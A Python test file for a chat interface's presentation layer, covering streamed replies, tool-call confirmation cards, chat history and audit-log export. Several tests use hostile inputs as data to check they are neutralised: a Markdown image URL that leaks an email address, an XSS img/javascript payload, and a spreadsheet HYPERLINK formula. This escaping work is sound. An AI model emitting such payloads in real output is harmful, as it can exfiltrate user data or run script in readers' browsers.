"""The pure half of the UI: engine events and stored history -> chat messages, audit rows, the status line."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from backend.core.specs import FunctionSpec
from backend.engine.audit import AuditEntry
from backend.engine.events import CallProposed, CallView, Done, ErrorEvent, PreparingCall, ReplyText, Token
from backend.models.protocol import ModelInfo
from backend.storage.tables import CallStatus, Message, MessageRole
from ui.present import (
    AUDIT_COLUMNS,
    ChatStream,
    audit_csv,
    audit_rows,
    call_message,
    history_chat,
    md_code,
    md_text,
    status_markdown,
)

SPEC = FunctionSpec.from_any({
    "function": "lookup_order", "description": "Look up an order.",
    "arguments": [{"name": "order_number", "type": "string", "description": "e.g. A1001"}],
})


def view(**changes: object) -> CallView:
    base = CallView(
        id="c1", reply_id="r1", function=SPEC.name, status=CallStatus.PROPOSED, spec=SPEC,
        proposed_arguments={"order_number": "A1001"}, arguments={"order_number": "A1001"},
    )
    return base.model_copy(update=changes)


def message(position: int, role: MessageRole, content: str, **extra: object) -> Message:
    return Message(
        id=position + 1, conversation_id="x", position=position, role=role, content=content,
        call_id=extra.pop("call_id", None), extra=extra or None,  # type: ignore[arg-type]
    )


def test_a_streamed_call_shows_preparing_then_a_bubble_that_points_to_its_card() -> None:
    chat = ChatStream()
    chat.add_user("Where is A1001?")
    chat.apply(PreparingCall())
    assert any("Preparing" in str((m.get("metadata") or {}).get("title")) for m in chat.chat)
    for event in (ReplyText(text=""), CallProposed(call=view()), Done(awaiting_confirmation=True)):
        chat.apply(event)

    call = chat.chat[-1]
    assert not any("Preparing" in str((m.get("metadata") or {}).get("title")) for m in chat.chat)
    assert call["metadata"]["title"] == "🛠️ lookup\\_order · ⏸️ waiting for your confirmation"
    assert call["metadata"]["status"] == "done", "a call waiting for a person does not spin"
    assert "A1001" not in call["content"], "the arguments are on the card, not repeated in the chat"
    assert chat.awaiting_confirmation


def test_tokens_stream_into_one_message_and_the_final_text_replaces_them() -> None:
    chat = ChatStream()
    chat.add_user("hi")
    for piece in ("Hel", "lo ", "there"):
        chat.apply(Token(text=piece))
    assert chat.chat[-1] == {"role": "assistant", "content": "Hello there"}
    chat.apply(ReplyText(text="Hello there!"))
    assert chat.chat[-1]["content"] == "Hello there!"


def test_a_stopped_reply_keeps_its_text_and_says_it_was_stopped() -> None:
    chat = ChatStream()
    chat.add_user("hi")
    chat.apply(Token(text="Your order left"))
    chat.stop()
    assert chat.chat[-1]["content"] == "Your order left\n\n⏹️ *Stopped.*"
    assert chat.stopped


def test_an_error_is_readable_and_retryable_and_the_users_message_stays() -> None:
    chat = ChatStream()
    chat.add_user("Where is my order?")
    chat.apply(ErrorEvent(message="The model server is overloaded: try again in a moment.", retryable=True))
    chat.apply(Done())
    assert chat.retryable and "overloaded" in (chat.error or "")
    assert chat.chat[0]["content"] == "Where is my order\\?"


def test_peoples_text_shows_literally_and_model_text_inertly() -> None:
    chat = ChatStream()
    chat.add_user("my order <A1001> is *late*")
    chat.apply(Token(text="![x](http://h/leak?d=a@b.c) <img src=x>"))
    user, reply = chat.chat
    assert user["content"] == "my order \\<A1001\\> is \\*late\\*"
    assert reply["content"] == "[🖼️ x](http://h/leak?d=a@b.c) &lt;img src=x>"


def test_history_folds_a_run_of_errors_into_one_and_marks_an_unanswered_message() -> None:
    messages = [
        message(0, MessageRole.USER, "hello"),
        message(1, MessageRole.ERROR, "The model server cannot be reached right now."),
        message(2, MessageRole.ERROR, "The model server cannot be reached right now."),
        message(3, MessageRole.USER, "hello again"),
        message(4, MessageRole.ASSISTANT, "Hi! Partial", stopped=True),
    ]
    chat = history_chat(messages, [], unanswered={1})
    assert [m["content"] for m in chat] == [
        "hello",
        "⚠️ **Not answered (tried 2 times):** The model server cannot be reached right now\\.",
        "hello again",
        "Hi! Partial\n\n⏹️ *Stopped.*",
    ]


def test_a_settled_call_off_the_deck_shows_the_edit_and_the_result() -> None:
    done = view(
        status=CallStatus.SUCCEEDED, arguments={"order_number": "A1002"}, edited=True, result={"ok": True},
        duration_ms=1234.0,
    )
    shown = call_message(done)
    assert "Proposed by the model" in shown["content"] and "Edited and confirmed" in shown["content"]
    assert '"A1002"' in shown["content"] and '"ok": true' in shown["content"]
    assert shown["metadata"]["status"] == "done" and shown["metadata"]["duration"] == 1.234
    assert call_message(done, on_card=True)["content"] == "Shown on the card below."
    assert call_message(view(status=CallStatus.RUNNING))["metadata"]["status"] == "pending"


def test_markdown_building_blocks_are_literal() -> None:
    hostile = '<img src=x onerror="window.__pwned=1"> [click](javascript:alert(1))'
    escaped = md_text(hostile)
    assert escaped.count("\\<") == hostile.count("<"), "every < is escaped, so Markdown shows it as text"
    assert "](" not in escaped and "\\]\\(" in escaped, "no live link"
    assert md_code("a `tick` <b>") == "``a `tick` <b>``", "a code span longer than any backtick run inside"


def test_the_demo_model_is_called_a_demo_without_telling_visitors_about_settings() -> None:
    info = ModelInfo(backend="embedded", model_id="SmolLM2-135M-Instruct", demo=True, call_mode="grammar")
    text = status_markdown(info, True)
    assert "demo" in text.lower() and "CALLCARD_" not in text
    assert "TGI" in status_markdown(ModelInfo(backend="tgi", model_id="m"), False)


def test_audit_csv_cannot_smuggle_spreadsheet_formulas() -> None:
    text = audit_csv([["2026-11-23", "ann", "=HYPERLINK(\"http://evil\")", "lookup_order"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert not rows[-1][2].startswith("=")


def entry(**changes: object) -> AuditEntry:
    base = AuditEntry(
        call_id="c1", decided_at=datetime(2026, 11, 23, 9, 30, 5), user="ann", conversation_id="x",
        conversation_title="Where is A1002?", can_open=False, function="lookup_order", status=CallStatus.SUCCEEDED,
        auto=False, edited=True, result={"order_number": "A1001", "status": "delivered"},
        arguments={"order_number": "A1001"}, proposed_arguments={"order_number": "A1002"}, duration_ms=12.345,
    )
    return base.model_copy(update=changes)


def test_audit_rows_show_each_call_in_the_columns_order() -> None:
    (row,) = audit_rows([entry()])
    assert len(row) == len(AUDIT_COLUMNS)
    assert row == [
        "2026-11-23 09:30:05", "ann", "Where is A1002?", "lookup_order", "", "succeeded · edited",
        '{"order_number": "A1001", "status": "delivered"}', '{"order_number": "A1001"}', "", '{"order_number": "A1002"}',
        12.3,
    ]


def test_audit_rows_say_where_values_came_from_and_what_is_history() -> None:
    (row,) = audit_rows([entry(
        sources={"order_number": "edited by a person"}, conversation_deleted=True,
        imported_from="export of conversation abc (Where is A1002?)",
    )])
    assert row[2] == "Where is A1002? (deleted)"
    assert row[5] == "succeeded · edited · imported, not run here (export of conversation abc (Where is A1002?))"
    assert row[8] == "order_number: edited by a person"


def test_audit_rows_mark_the_conversations_the_viewer_may_open() -> None:
    rows = audit_rows([entry(can_open=True), entry()])
    assert [row[2] for row in rows] == ["Where is A1002? ↗", "Where is A1002?"]


def test_audit_rows_tell_each_outcome() -> None:
    outcomes = audit_rows([
        entry(status=CallStatus.FAILED, result=None, error="warehouse database is down"),
        entry(status=CallStatus.REJECTED, result=None, arguments=None, reject_reason=None, edited=False),
        entry(status=CallStatus.PROPOSED, result=None, arguments=None, decided_at=None, duration_ms=None, auto=True),
    ])
    assert [row[6] for row in outcomes] == ["warehouse database is down", "Rejected: no reason given", ""]
    assert outcomes[1][5] == "rejected" and outcomes[1][7] == ""
    assert outcomes[2][0] == "(not decided)" and outcomes[2][5] == "proposed · ran automatically · edited"
    assert outcomes[2][10] == ""
